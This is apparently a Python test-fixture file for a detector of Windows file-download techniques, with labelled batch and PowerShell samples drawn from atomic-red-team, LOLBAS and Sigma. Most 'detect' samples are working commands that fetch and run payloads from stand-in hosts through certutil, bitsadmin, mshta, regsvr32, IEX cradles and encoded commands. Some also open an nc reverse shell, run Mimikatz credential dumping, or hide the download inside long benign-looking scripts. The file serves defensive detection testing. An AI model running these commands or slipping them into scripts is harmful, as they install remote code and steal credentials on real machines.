# Windows carriers: batch, powershell -- detect and silent.
from common import C, ps_enc

ENC1 = ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')")
ENC2 = ps_enc("Invoke-WebRequest -Uri http://198.51.100.7/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe")

# ================================================================ batch detect
C("bat-certutil-urlcache-01", "atomic-red-team T1105 'certutil download (urlcache)'; LOLBAS Certutil", "batch",
  "/opt/win/setup.bat", "detect", r"""@echo off
cmd /c certutil -urlcache -split -f http://203.0.113.5/payload.exe %TEMP%\payload.exe
start "" %TEMP%\payload.exe
""")

C("bat-certutil-caret-at-02", "evasion: @ prefix + ^ caret escapes in certutil", "batch",
  "/opt/win/scripts/upd.cmd", "detect", r"""@echo off
setlocal
@c^ertutil.exe -url^cache -sp^lit -f "http://198.51.100.7/svc.dll" "%PUBLIC%\svc.dll" >nul 2>&1
@rundll32.exe "%PUBLIC%\svc.dll",DllRegisterServer
""")

C("bat-bitsadmin-transfer-03", "atomic-red-team T1105 'Windows - BITSAdmin BITS Download'", "batch",
  "/opt/win/bits.bat", "detect", r"""@echo off
C:\Windows\System32\bitsadmin.exe /transfer qcxjb7 /Priority HIGH https://attacker.example/tools/agent.exe %TEMP%\agent.exe
%TEMP%\agent.exe
""")

C("bat-bitsadmin-create-addfile-04", "LOLBAS Bitsadmin /create /addfile /resume", "batch",
  "/opt/win/jobs/sync.bat", "detect", r"""bitsadmin /create 1
bitsadmin /addfile 1 http://203.0.113.5/autoruns.exe c:\data\playfolder\autoruns.exe
bitsadmin /RESUME 1
bitsadmin /complete 1
""")

C("bat-curl-exe-fullpath-05", "atomic-red-team T1105 'Curl Download File' (C:\\Windows\\System32\\Curl.exe -k)", "batch",
  "/opt/win/curl-dl.cmd", "detect", r"""@echo off
C:\Windows\System32\Curl.exe -k https://203.0.113.5/AllTheThingsx64.dll -o c:\users\public\music\allthethingsx64.dll
rundll32 c:\users\public\music\allthethingsx64.dll,EntryPoint
""")

C("bat-program-files-curl-quoted-06", "full quoted path under Program Files", "batch",
  "/opt/win/tools/getgit.bat", "detect", r"""@echo off
"C:\Program Files\Git\mingw64\bin\curl.exe" -s -L -o "%APPDATA%\Microsoft\upd.exe" "http://198.51.100.7/upd.exe"
if exist "%APPDATA%\Microsoft\upd.exe" start /b "" "%APPDATA%\Microsoft\upd.exe"
""")

C("bat-powershell-iex-cradle-07", "Sigma posh download cradle; classic IEX DownloadString from cmd", "batch",
  "/opt/win/launch.bat", "detect", r"""@echo off
powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/Invoke-Payload.ps1'); Invoke-Payload"
""")

C("bat-powershell-encodedcommand-08", "-EncodedCommand (UTF-16LE base64) of IEX DownloadString cradle", "batch",
  "/opt/win/start-agent.cmd", "detect", "@echo off\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + ENC1 + "\n")

C("bat-mshta-http-09", "LOLBAS Mshta remote hta", "batch",
  "/opt/win/ui.bat", "detect", r"""@echo off
mshta.exe http://203.0.113.5/app.hta
""")

C("bat-regsvr32-scrobj-10", "LOLBAS Regsvr32 squiblydoo (/i:http scrobj.dll)", "batch",
  "/opt/win/register.bat", "detect", r"""@echo off
regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll
""")

C("bat-msiexec-http-11", "Sigma 'MsiExec Web Install'", "batch",
  "/opt/win/install-msi.bat", "detect", r"""@echo off
msiexec /q /i http://198.51.100.7/package.msi
""")

C("bat-mpcmdrun-downloadfile-12", "atomic-red-team T1105 'Download a File with Windows Defender MpCmdRun.exe'", "batch",
  "/opt/win/defender-update.bat", "detect", r"""@echo off
cd "%ProgramData%\Microsoft\Windows Defender\platform\4.18*"
MpCmdRun.exe -DownloadFile -url https://attacker.example/beacon.exe -path %TEMP%\beacon.exe
""")

C("bat-certreq-post-13", "LOLBAS CertReq -Post (download via POST response)", "batch",
  "/opt/win/certreq.bat", "detect", r"""@echo off
CertReq -Post -config https://203.0.113.5/ c:\windows\win.ini %TEMP%\out.txt
""")

C("bat-desktopimgdownldr-14", "LOLBAS Desktopimgdownldr", "batch",
  "/opt/win/lockscreen.bat", "detect", r"""@echo off
set "SYSTEMROOT=C:\Windows\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:https://203.0.113.5/payload.exe /eventName:desktopimgdownldr
""")

C("bat-esentutl-unc-15", "LOLBAS Esentutl copy from UNC share", "batch",
  "/opt/win/esent.bat", "detect", r"""@echo off
esentutl.exe /y \\198.51.100.30\share\tool.exe /d C:\ProgramData\tool.exe /o
C:\ProgramData\tool.exe
""")

C("bat-expand-replace-unc-16", "LOLBAS Expand + Replace from UNC (atomic-red-team 'replace.exe use to copy UNC file')", "batch",
  "/opt/win/copy-stage.bat", "detect", r"""@echo off
expand \\198.51.100.30\share\stage.bat C:\ProgramData\stage.bat
replace.exe \\198.51.100.30\share\redcanary.cab %TEMP% /A
call C:\ProgramData\stage.bat
""")

C("bat-xcopy-copy-unc-17", "remote share copy (xcopy / copy from \\\\host\\share)", "batch",
  "/opt/win/deploy-tools.bat", "detect", r"""@echo off
xcopy /Y /Q \\203.0.113.50\tools$\nc64.exe C:\Windows\Temp\
copy /Y \\203.0.113.50\tools$\psexec.exe "%APPDATA%\psx.exe"
C:\Windows\Temp\nc64.exe -e cmd.exe 203.0.113.50 4444
""")

C("bat-cmdl32-18", "LOLBAS cmdl32 / atomic-red-team 'Microsoft Connection Manager Auto-Download'", "batch",
  "/opt/win/cm.bat", "detect", r"""@echo off
cd /d %TEMP%
echo [Connection Manager] > settings.txt
echo CMSFile=settings.txt >> settings.txt
echo ServiceName=WindowsUpdate >> settings.txt
echo TunnelFile=settings.txt >> settings.txt
echo [Settings] >> settings.txt
echo UpdateUrl=http://203.0.113.5/T1105.bat >> settings.txt
set tmp=%cd%
cmdl32 /vpn /lan %cd%\settings.txt
""")

C("bat-printbrm-unc-19", "atomic-red-team T1105 'Printer Migration Command-Line Tool UNC share folder into a zip file'", "batch",
  "/opt/win/printbrm.bat", "detect", r"""@echo off
C:\Windows\System32\spool\tools\PrintBrm.exe -b -d \\198.51.100.30\share\folder -f %TEMP%\PrintBrm.zip -O FORCE
""")

C("bat-gfxdownloadwrapper-20", "LOLBAS GfxDownloadWrapper", "batch",
  "/opt/win/gfx.bat", "detect", r"""@echo off
C:\Windows\System32\DriverStore\FileRepository\igdlh64.inf_amd64_8a9535cd18c90bc3\GfxDownloadWrapper.exe "http://203.0.113.5/a.exe" "C:\Temp\a.exe"
""")

C("bat-msedge-headless-dumpdom-21", "LOLBAS Msedge --headless --dump-dom; Sigma headless browser download", "batch",
  "/opt/win/edge-fetch.bat", "detect", r"""@echo off
"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --headless --enable-logging --disable-gpu --dump-dom "http://203.0.113.5/payload.b64" > %TEMP%\payload.b64
certutil -decode %TEMP%\payload.b64 %TEMP%\payload.exe
""")

C("bat-hh-http-22", "LOLBAS Hh.exe remote CHM", "batch",
  "/opt/win/help.bat", "detect", r"""@echo off
HH.exe http://203.0.113.5/help.chm
""")

C("bat-ftp-script-23", "LOLBAS Ftp.exe -s: scripted download", "batch",
  "/opt/win/ftpget.bat", "detect", r"""@echo off
echo open 203.0.113.20 21> %TEMP%\ftp.txt
echo USER anonymous>> %TEMP%\ftp.txt
echo PASS guest@>> %TEMP%\ftp.txt
echo binary>> %TEMP%\ftp.txt
echo GET /payload.exe %TEMP%\payload.exe>> %TEMP%\ftp.txt
echo quit>> %TEMP%\ftp.txt
ftp -n -s:%TEMP%\ftp.txt
%TEMP%\payload.exe
""")

C("bat-finger-pipe-cmd-24", "LOLBAS Finger.exe | more +2 | cmd", "batch",
  "/opt/win/finger.bat", "detect", r"""@echo off
finger user@203.0.113.5 | more +2 | cmd
""")

C("bat-type-findstr-unc-25", "LOLBAS Cmd type / Findstr from UNC (Sigma type arbitrary download)", "batch",
  "/opt/win/typecopy.bat", "detect", r"""@echo off
type \\198.51.100.30\share\loader.exe > C:\ProgramData\loader.exe
findstr /V /L W3AllLov3LolBas \\198.51.100.30\share\helper.exe > C:\ProgramData\helper.exe
""")

C("bat-curl-pipe-powershell-26", "curl piped into 'powershell -'", "batch",
  "/opt/win/bootstrap.cmd", "detect", r"""@echo off
curl.exe -s http://203.0.113.10/stage.ps1 | powershell -NoProfile -
""")

C("bat-extrac32-unc-27", "LOLBAS Extrac32 from UNC", "batch",
  "/opt/win/extract.bat", "detect", r"""@echo off
extrac32 /Y /C \\198.51.100.30\share\tool.exe C:\ProgramData\tool.exe
""")

C("bat-wsl-devtcp-28", "LOLBAS Wsl.exe --exec bash /dev/tcp", "batch",
  "/opt/win/wsl-get.bat", "detect", r"""@echo off
wsl.exe --exec bash -c 'cat < /dev/tcp/203.0.113.5/54 > /tmp/binary'
""")

C("bat-long-deep-certutil-29", "evasion: long batch file, download deep in a subroutine", "batch",
  "/opt/win/maintenance.bat",
  "detect", "\n".join(
      ["@echo off", "setlocal EnableDelayedExpansion", "rem nightly maintenance", "set LOG=C:\\ProgramData\\maint\\maint.log",
       "if not exist C:\\ProgramData\\maint mkdir C:\\ProgramData\\maint", ""]
      + sum([[f":step{i}", f"echo [%date% %time%] step {i} >> %LOG%",
              f"forfiles /p C:\\ProgramData\\app\\logs{i} /m *.log /d -14 /c \"cmd /c del @path\" 2>nul",
              f"if exist C:\\ProgramData\\app\\cache{i} rd /s /q C:\\ProgramData\\app\\cache{i}", ""]
             for i in range(1, 13)], [])
      + [":fetch", "echo refreshing helper >> %LOG%",
         "certutil.exe -urlcache -f http://198.51.100.61/helper.exe C:\\ProgramData\\maint\\helper.exe >> %LOG% 2>&1",
         "C:\\ProgramData\\maint\\helper.exe /quiet", "", ":end", "endlocal", ""]))

# ================================================================ batch silent
C("bat-silent-rem-comments-01", "look-alike: download commands only in REM/:: comments", "batch",
  "/opt/win/install.bat", "silent", r"""@echo off
REM Old installer used:
REM   certutil -urlcache -split -f http://198.51.100.7/app.exe %TEMP%\app.exe
:: bitsadmin /transfer app http://198.51.100.7/app.exe %TEMP%\app.exe
xcopy /E /I /Y .\dist "C:\Program Files\App"
echo Installed.
""")

C("bat-silent-certutil-hash-02", "look-alike: certutil used for hashing/decoding local files", "batch",
  "/opt/win/verify.bat", "silent", r"""@echo off
certutil -hashfile "%~dp0setup.exe" SHA256
certutil -decode "%~dp0license.b64" "%~dp0license.txt"
""")

C("bat-silent-local-copy-03", "look-alike: local copy/xcopy/robocopy between drive paths", "batch",
  "/opt/win/publish.cmd", "silent", r"""@echo off
copy /Y config\app.ini C:\App\app.ini
xcopy /E /I /Y build C:\inetpub\wwwroot\app
robocopy C:\App\data D:\Backup\data /MIR /R:1 /W:1
""")

C("bat-silent-usage-echo-04", "look-alike: usage text echoing a download command", "batch",
  "/opt/win/help.cmd", "silent", r"""@echo off
echo This package is installed offline.
echo To refresh it manually on a connected machine, run:
echo     curl -o app.zip https://downloads.example.com/app.zip
echo and copy app.zip next to this script.
pause
""")

C("bat-silent-localhost-health-05", "look-alike: curl.exe health check to localhost", "batch",
  "/opt/win/health.cmd", "silent", r"""@echo off
curl.exe -fsS http://localhost:8080/health >nul 2>&1 || exit /b 1
curl.exe -fsS http://127.0.0.1:9182/metrics >nul 2>&1 || exit /b 1
exit /b 0
""")

# ================================================================ powershell detect
C("ps-webclient-downloadfile-01", "atomic-red-team T1105 'Windows - PowerShell Download'", "powershell",
  "/opt/win/dl.ps1", "detect", r"""$out = "$env:TEMP\Atomic-license.exe"
(New-Object System.Net.WebClient).DownloadFile("https://203.0.113.5/tool.exe", $out)
Start-Process -FilePath $out -WindowStyle Hidden
""")

C("ps-iex-downloadstring-02", "atomic-red-team T1105 'File Download via PowerShell' / classic cradle", "powershell",
  "/opt/win/profile-init.ps1", "detect", r"""IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -DumpCreds
""")

C("ps-iwr-outfile-03", "atomic-red-team T1105 'iwr or Invoke Web-Request download'", "powershell",
  "/opt/win/get-tool.ps1", "detect", r"""$dst = Join-Path $env:ProgramData 'tool.exe'
iwr -URI http://198.51.100.7/tool.exe -OutFile $dst -UseBasicParsing
& $dst /silent
""")

C("ps-irm-iex-04", "PowerShell aliases irm | iex", "powershell",
  "/opt/win/setup-env.ps1", "detect", r"""Set-ExecutionPolicy Bypass -Scope Process -Force
irm https://attacker.example/setup.ps1 | iex
""")

C("ps-curl-alias-05", "PowerShell 'curl' alias of Invoke-WebRequest", "powershell",
  "/opt/win/fetch.ps1", "detect", r"""curl http://203.0.113.5/implant.dll -OutFile C:\Users\Public\implant.dll
rundll32.exe C:\Users\Public\implant.dll,Start
""")

C("ps-url-var-invoke-webrequest-06", "URL in variable, Invoke-WebRequest far below", "powershell",
  "/opt/win/Update-Agent.ps1", "detect", r"""param(
    [string]$InstallDir = "$env:ProgramFiles\Agent"
)
$ErrorActionPreference = 'Stop'
$Source = 'http://198.51.100.61:8080/agent/latest/agent.exe'
$LogFile = Join-Path $env:TEMP 'agent-update.log'

function Write-Log([string]$Message) {
    "$(Get-Date -Format o) $Message" | Out-File -FilePath $LogFile -Append
}

function Stop-AgentService {
    $svc = Get-Service -Name 'Agent' -ErrorAction SilentlyContinue
    if ($svc -and $svc.Status -eq 'Running') {
        Stop-Service -Name 'Agent' -Force
        Write-Log 'agent stopped'
    }
}

function Backup-Agent {
    if (Test-Path "$InstallDir\agent.exe") {
        Copy-Item "$InstallDir\agent.exe" "$InstallDir\agent.exe.bak" -Force
    }
}

Stop-AgentService
Backup-Agent
New-Item -ItemType Directory -Force -Path $InstallDir | Out-Null

Invoke-WebRequest -Uri $Source -OutFile "$InstallDir\agent.exe" -UseBasicParsing
Write-Log 'agent downloaded'
Start-Service -Name 'Agent'
""")

C("ps-start-bitstransfer-07", "Start-BitsTransfer (Sigma / LOLBAS BITS)", "powershell",
  "/opt/win/bits.ps1", "detect", r"""Import-Module BitsTransfer
Start-BitsTransfer -Source 'http://203.0.113.5/payload.exe' -Destination "$env:TEMP\svchost.exe" -Priority Foreground
Start-Process "$env:TEMP\svchost.exe"
""")

C("ps-com-ie-gettypefromclsid-08", "Sigma 'Potential COM Objects Download Cradles Usage' (GetTypeFromCLSID InternetExplorer.Application)", "powershell",
  "/opt/win/com-cradle.ps1", "detect", r"""$ie = [Activator]::CreateInstance([Type]::GetTypeFromCLSID('0002DF01-0000-0000-C000-000000000046'))
$ie.Visible = $false
$ie.Navigate('http://203.0.113.10/payload.ps1')
while ($ie.Busy) { Start-Sleep -Milliseconds 200 }
$code = $ie.Document.body.innerText
$ie.Quit()
IEX $code
""")

C("ps-msxml2-comobject-09", "COM cradle: Msxml2.XMLHTTP via New-Object -ComObject", "powershell",
  "/opt/win/xmlhttp.ps1", "detect", r"""$h = New-Object -ComObject Msxml2.XMLHTTP
$h.open('GET', 'http://203.0.113.10/s.ps1', $false)
$h.send()
iex $h.responseText
""")

C("ps-winhttp-comobject-10", "COM cradle: WinHttp.WinHttpRequest.5.1", "powershell",
  "/opt/win/winhttp.ps1", "detect", r"""$r = New-Object -ComObject WinHttp.WinHttpRequest.5.1
$r.Open('GET', 'https://attacker.example/p.bin', $false)
$r.Send()
[IO.File]::WriteAllBytes("$env:TEMP\p.exe", $r.ResponseBody)
& "$env:TEMP\p.exe"
""")

C("ps-httpclient-11", "System.Net.Http.HttpClient download + WriteAllBytes", "powershell",
  "/opt/win/httpclient.ps1", "detect", r"""Add-Type -AssemblyName System.Net.Http
$client = New-Object System.Net.Http.HttpClient
$bytes = $client.GetByteArrayAsync('https://203.0.113.5/drop.dll').Result
[System.IO.File]::WriteAllBytes('C:\ProgramData\drop.dll', $bytes)
""")

C("ps-webrequest-create-12", "System.Net.WebRequest::Create + GetResponseStream", "powershell",
  "/opt/win/webrequest.ps1", "detect", r"""$req = [System.Net.WebRequest]::Create('http://198.51.100.7/x.exe')
$resp = $req.GetResponse()
$in = $resp.GetResponseStream()
$out = [System.IO.File]::Create("$env:TEMP\x.exe")
$in.CopyTo($out)
$out.Close(); $resp.Close()
Start-Process "$env:TEMP\x.exe"
""")

C("ps-encodedcommand-launcher-13", "-EncodedCommand (UTF-16LE base64) of Invoke-WebRequest + Start-Process", "powershell",
  "/opt/win/launcher.ps1", "detect", "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP','-NonI','-enc','" + ENC2 + "'\n")

C("ps-webclient-downloaddata-obf-14", "WebClient.DownloadData with concatenated IEX alias obfuscation", "powershell",
  "/opt/win/data.ps1", "detect", r"""$u = 'http://' + '203.0.113.10' + '/b.ps1'
$w = New-Object System.Net.WebClient
$w.Headers.Add('User-Agent', 'Mozilla/5.0')
$d = $w.DownloadData($u)
& ('I' + 'EX') ([Text.Encoding]::UTF8.GetString($d))
""")

C("ps-imewdbld-15", "atomic-red-team T1105 'Download a file with IMEWDBLD.exe'", "powershell",
  "/opt/win/ime.ps1", "detect", r"""$imewdbled = $env:SystemRoot + "\System32\IME\SHARED\IMEWDBLD.exe"
& $imewdbled https://203.0.113.5/T1105.dic
""")

C("ps-onedrive-updater-16", "atomic-red-team T1105 'Download a file with OneDrive Standalone Updater'", "powershell",
  "/opt/win/odsu.ps1", "detect", r"""$remote = 'https://203.0.113.5/update.xml'
New-Item -Path "HKCU:\Software\Microsoft\OneDrive\UpdateOfficeConfig" -Force | Out-Null
Set-ItemProperty -Path "HKCU:\Software\Microsoft\OneDrive\UpdateOfficeConfig" -Name "UpdateRingSettingURLFromOC" -Value $remote -Type String -Force
Set-ItemProperty -Path "HKCU:\Software\Microsoft\OneDrive\UpdateOfficeConfig" -Name "ODSUUpdateXMLUrlFromOC" -Value $remote -Type String -Force
Set-ItemProperty -Path "HKCU:\Software\Microsoft\OneDrive\UpdateOfficeConfig" -Name "UpdateXMLUrlFromOC" -Value $remote -Type String -Force
Set-ItemProperty -Path "HKCU:\Software\Microsoft\OneDrive\UpdateOfficeConfig" -Name "UpdateOfficeConfigTimestamp" -Value 99999999999 -Type QWord -Force
& "$env:LOCALAPPDATA\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe"
""")

C("ps-certutil-from-ps-17", "certutil -urlcache invoked from PowerShell (& operator, full path)", "powershell",
  "/opt/win/cu.ps1", "detect", r"""& "$env:windir\System32\certutil.exe" -urlcache -split -f 'http://203.0.113.5/beacon.exe' "$env:PUBLIC\beacon.exe"
& "$env:PUBLIC\beacon.exe"
""")

C("ps-long-deep-payload-18", "evasion: long PowerShell module, DownloadFile deep inside", "powershell",
  "/opt/win/Modules/Ops/Ops.psm1", "detect", "\n".join(
      ["Set-StrictMode -Version Latest", ""]
      + sum([[f"function Get-Ops{n}Status {{",
              "    [CmdletBinding()] param([string]$ComputerName = $env:COMPUTERNAME)",
              f"    $svc = Get-Service -Name '{n}' -ComputerName $ComputerName -ErrorAction SilentlyContinue",
              "    [pscustomobject]@{ Name = $svc.Name; Status = $svc.Status; Host = $ComputerName }",
              "}", ""] for n in ["Spooler", "W32Time", "WinRM", "BITS", "Dnscache", "EventLog",
                                 "LanmanServer", "Schedule", "TermService", "WinDefend"]], [])
      + ["function Sync-OpsHelper {",
         "    $wc = New-Object Net.WebClient",
         "    $wc.DownloadFile('http://198.51.100.61/ops/helper.exe', \"$env:ProgramData\\Ops\\helper.exe\")",
         "    Start-Process \"$env:ProgramData\\Ops\\helper.exe\" -WindowStyle Hidden",
         "}", "",
         "Export-ModuleMember -Function Get-Ops*, Sync-OpsHelper", "Sync-OpsHelper", ""]))

C("ps-pwsh-shebang-19", "pwsh script on Linux image using Invoke-RestMethod + -OutFile", "powershell",
  "/usr/local/bin/refresh.ps1", "detect", r"""#!/usr/bin/env pwsh
Invoke-RestMethod -Uri 'http://203.0.113.77/bin/collector' -OutFile /usr/local/bin/collector
chmod +x /usr/local/bin/collector
/usr/local/bin/collector &
""", executable=True)

# ================================================================ powershell silent
C("ps-silent-localhost-health-01", "look-alike: Invoke-WebRequest to localhost health endpoint", "powershell",
  "/opt/win/healthcheck.ps1", "silent", r"""try {
    $r = Invoke-WebRequest -Uri 'http://localhost:8080/health' -UseBasicParsing -TimeoutSec 5
    if ($r.StatusCode -ne 200) { exit 1 }
} catch { exit 1 }
exit 0
""")

C("ps-silent-comment-block-02", "look-alike: download cradle only in comment-based help", "powershell",
  "/opt/win/Install-App.ps1", "silent", r"""<#
.SYNOPSIS
    Installs the application from the local package directory.
.DESCRIPTION
    Older versions fetched the package with:
        iwr https://downloads.example.com/app.zip -OutFile app.zip
        IEX (New-Object Net.WebClient).DownloadString('https://downloads.example.com/install.ps1')
    This version installs from the bundled archive only.
#>
param([string]$Package = "$PSScriptRoot\app.zip")
Expand-Archive -Path $Package -DestinationPath "$env:ProgramFiles\App" -Force
# iwr http://198.51.100.7/app.zip -OutFile app.zip   (disabled)
Write-Host 'Installed.'
""")

C("ps-silent-filehash-help-03", "look-alike: Get-FileHash / Get-Help for download cmdlets", "powershell",
  "/opt/win/verify.ps1", "silent", r"""$hash = Get-FileHash -Algorithm SHA256 -Path "$PSScriptRoot\setup.exe"
if ($hash.Hash -ne (Get-Content "$PSScriptRoot\setup.exe.sha256")) { throw 'hash mismatch' }
Get-Help Invoke-WebRequest -Parameter OutFile | Out-Null
Get-Command Start-BitsTransfer -ErrorAction SilentlyContinue | Out-Null
""")

C("ps-silent-write-host-usage-04", "look-alike: Write-Host usage text with irm | iex", "powershell",
  "/opt/win/readme.ps1", "silent", r"""Write-Host 'This image ships the CLI preinstalled.'
Write-Host 'On a workstation you would install it with:'
Write-Host '    irm https://get.example.com/install.ps1 | iex'
Write-Host 'No network access is required here.'
""")
